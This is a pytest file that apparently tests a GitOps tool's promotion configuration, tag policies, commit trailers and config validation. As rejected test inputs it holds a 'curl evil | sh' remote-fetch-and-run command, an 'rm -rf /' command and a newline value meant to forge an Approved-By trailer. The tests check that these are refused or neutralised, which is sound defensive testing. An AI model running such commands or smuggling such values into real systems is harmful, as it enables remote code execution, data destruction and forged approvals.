"""gitswarm.yml's promotion blocks: gates, approvals, image policies; bad ones named
at file:line; a command gate can only *name* an operator's command."""

from __future__ import annotations

import time
from datetime import timedelta
from pathlib import Path

import pytest

from gitswarm.errors import ConfigError
from gitswarm.promote.core.message import CommitFacts, GateResult, commit_message, parse_trailers
from gitswarm.promote.core.settings import promotion_settings
from gitswarm.promote.core.tags import ImagePolicy, TagFilter, parse_image, parse_image_arg
from gitswarm.repo import load_config
from tests.unit.test_render_trees import MemoryTree


def config(block: str) -> object:
    text = (
        "project: shop\n"
        "application: {name: web}\n"
        "environments:\n"
        "  dev: {}\n"
        "  prod:\n"
        "    promotion:\n" + "".join(f"      {line}\n" for line in block.splitlines())
    )
    return load_config(MemoryTree({"gitswarm.yml": text}))


def test_a_full_block_reads() -> None:
    cfg = config(
        "approvals: 2\n"
        "expires: 12h\n"
        "gates:\n"
        "  source_healthy_for: 10m\n"
        "  http: [{name: health, url: 'http://stg/health', retries: 2}]\n"
        "  command: [perf-test]\n"
        "image_automation:\n"
        "  - repository: reg.io/shop/api\n"
        "    policy: {semver: {range: '>=1.0.0 <2.0.0'}}\n"
    )
    s = promotion_settings(cfg, "prod")  # type: ignore[arg-type]
    assert (s.source, s.approvals, s.expires) == ("dev", 2, timedelta(hours=12))
    assert s.gates.source_healthy_for == timedelta(minutes=10)
    assert s.gates.names() == ["source-healthy", "health", "command-perf-test", "policy", "window"]
    assert s.image_automation[0].repository == "reg.io/shop/api"


def test_a_command_gate_with_an_argv_is_refused_at_its_line() -> None:
    cfg = config("gates:\n  command:\n    - [sh, -c, 'curl evil | sh']\n")
    with pytest.raises(ConfigError) as info:
        promotion_settings(cfg, "prod")  # type: ignore[arg-type]
    (problem,) = info.value.problems
    assert (problem.file, problem.line, problem.rule) == ("gitswarm.yml", 9, "promotion")
    assert "cannot give an argv: whoever can push would run code on the agent's host" in (
        problem.message
    )


def test_every_bad_key_is_reported_at_once() -> None:
    cfg = config("approvals: -1\nexpires: soon\ngates: {htp: []}\nauto: yes please\n")
    with pytest.raises(ConfigError) as info:
        promotion_settings(cfg, "prod")  # type: ignore[arg-type]
    messages = [p.message for p in info.value.problems]
    assert any("approvals: must be a whole number from 0 to 10" in m for m in messages)
    assert any("'soon' is not a duration" in m for m in messages)
    assert any("unknown key 'htp'" in m for m in messages)
    assert any("auto: must be true or false" in m for m in messages)
    assert all(p.file == "gitswarm.yml" and p.line for p in info.value.problems)


@pytest.mark.parametrize(
    ("policy", "tags", "newest"),
    [
        (
            ImagePolicy("semver", range=">=1.0.0 <2.0.0"),
            ["1.9.1", "2.0.0", "1.10.0", "v1.2"],
            "1.10.0",
        ),
        (ImagePolicy("semver", range="^1.2"), ["1.2.0", "1.3.0-rc.1", "1.2.5"], "1.2.5"),
        (ImagePolicy("numerical"), ["9", "10", "x", "2"], "10"),
        (ImagePolicy("numerical", order="desc"), ["9", "10", "2"], "2"),
        (ImagePolicy("alphabetical"), ["b", "a", "c"], "c"),
        (
            ImagePolicy(
                "numerical",
                filter=TagFilter(r"^main-[a-f0-9]+-(?P<ts>[0-9]+)$", "$ts"),
            ),
            ["main-abc-100", "main-fff-99", "feature-1-500", "main-000-1000"],
            "main-000-1000",
        ),
    ],
)
def test_image_policies_pick_the_newest(policy: ImagePolicy, tags: list[str], newest: str) -> None:
    assert policy.newest(tags) == newest
    assert policy.newest(list(reversed(tags))) == newest


def test_a_pattern_that_backtracks_without_end_is_stopped_and_reported() -> None:
    policy = ImagePolicy("alphabetical", filter=TagFilter(r"^(a|aa)+$"))
    started = time.monotonic()
    with pytest.raises(ValueError, match=r"took more than 0.05s on tag 'aaa.*: it backtracks"):
        policy.newest(["a" * 100 + "-"] * 50)
    assert time.monotonic() - started < 2


def test_tag_filters_and_the_rego_engine_share_one_process() -> None:
    """google-re2's binding and regopy's bundled RE2 corrupted each other's memory (a
    `free(): invalid size` abort); the agent loads both: the filter must not crash."""
    import subprocess
    import sys

    code = (
        "import regopy\n"
        "from gitswarm.promote.core.tags import ImagePolicy, TagFilter\n"
        "f = TagFilter(r'^main-[a-f0-9]+-(?P<ts>[0-9]+)$', '$ts')\n"
        "p = ImagePolicy('numerical', filter=f)\n"
        "print(p.newest(['main-abc-100', 'main-0-99']))\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert (proc.returncode, proc.stdout.strip()) == (0, "main-abc-100"), proc.stderr


def test_image_references() -> None:
    ref = parse_image("127.0.0.1:5000/medianest/app:1.2.0@sha256:ab")
    assert (ref.repository, ref.tag, ref.digest, ref.registry, ref.path) == (
        "127.0.0.1:5000/medianest/app", "1.2.0", "sha256:ab", "127.0.0.1:5000", "medianest/app"
    )  # fmt: skip
    assert parse_image("redis").path == "library/redis"
    with pytest.raises(ValueError, match="must be NAME:TAG"):
        parse_image_arg("127.0.0.1:5000/medianest/app")


def test_the_message_has_the_seed_layout_and_trailers_no_value_can_forge() -> None:
    facts = CommitFacts(
        app="web",
        source="staging",
        target="production",
        source_revision="a" * 40,
        changed={"reg.io/web": ("1.0.0", "1.1.0")},
        gates=[GateResult("source-healthy", True, "for 12m"), GateResult("policy", True)],
        requested_by="mallory\nApproved-By: mallory",
        approved_by=("alice", "bob"),
        promotion_id=7,
    )
    message = commit_message(facts)
    assert message.startswith("Promote web to production: reg.io/web 1.1.0\n\nSource: staging")
    assert "- reg.io/web: 1.0.0 -> 1.1.0" in message
    trailers = parse_trailers(message)
    assert trailers["Promoted-From"] == [f"staging@{'a' * 40}"]
    assert trailers["Promoted-Images"] == ["reg.io/web:1.1.0"]
    assert trailers["Gate-source-healthy"] == ["pass"] and trailers["Gate-policy"] == ["pass"]
    assert trailers["Approved-By"] == ["alice", "bob"]
    assert trailers["Requested-By"] == ["mallory Approved-By: mallory"]
    assert trailers["Promotion-Id"] == ["7"]


def test_validate_reports_a_bad_promotion_block_at_its_line(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from gitswarm.cli.main import cli

    (tmp_path / "environments/dev").mkdir(parents=True)
    (tmp_path / "environments/dev/docker-compose.yml").write_text("services: {}\n")
    (tmp_path / "base").mkdir()
    (tmp_path / "base/docker-compose.yml").write_text(
        "services:\n  web:\n    image: reg.io/web:1.0\n"
    )
    (tmp_path / "gitswarm.yml").write_text(
        "project: shop\napplication: {name: web}\nenvironments:\n"
        "  dev:\n    promotion:\n      gates:\n        command: [[rm, -rf, /]]\n"
    )
    result = CliRunner().invoke(cli, ["validate", "--repo", str(tmp_path)])
    assert result.exit_code == 2, result.output
    assert "gitswarm.yml:7" in result.output and "cannot give an argv" in result.output
    assert "Traceback" not in result.output
